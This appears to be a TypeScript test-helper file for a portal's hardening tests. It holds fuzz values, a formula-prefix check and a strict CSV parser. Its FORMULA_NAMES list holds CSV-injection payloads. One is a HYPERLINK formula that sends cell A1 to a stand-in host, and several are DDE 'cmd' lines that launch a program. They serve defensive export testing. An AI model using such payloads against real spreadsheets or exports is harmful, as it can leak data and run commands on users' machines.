/**
 * Shared by the hardening tests: the values every text and number field is fuzzed with, the six formula
 * prefixes as PagerDuty display names, and a strict RFC 4180 reader for what the portal's CSV writers emit.
 */

/** Fuzz values (label, value): text PostgreSQL cannot store, over-long text, numbers past int64. */
export const FUZZ: ReadonlyArray<readonly [string, unknown]> = [
  ["a NUL character", "a\u0000b"],
  ["a lone high surrogate", "x\uD800y"],
  ["a lone low surrogate", "\uDC00"],
  ["10,000 characters", "x".repeat(10_000)],
  ["int64 max + 1 as text", "9223372036854775808"],
  ["int64 max + 1 as a number", 9223372036854775808],
  ["1e309 as text", "1e309"],
  ["1e309 (Infinity)", 1e309],
  ["-0 as text", "-0"],
  ["-0", -0],
  ["NaN as text", "NaN"],
  ["NaN", Number.NaN],
];

/** Fuzz values that are well-formed text: a free-text field may accept them (and then refuse for another reason). */
export const isPlausibleText = (value: unknown) => typeof value === "string" && /^(9223372036854775808|1e309|-0|NaN)$/.test(value);

/** A PagerDuty display name for each leading character a spreadsheet runs as a formula. */
export const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1 Tab Bed",
  "\r=1+1 Carriage Return",
] as const;

/** Whether a raw CSV cell would start a formula in a spreadsheet. */
export const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** RFC 4180 rows ("\n" or "\r\n" between records; quoted fields may hold commas, quotes, CR and LF). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === "") quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
      if (c === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell !== "" || row.length) rows.push([...row, cell]);
  return rows;
}
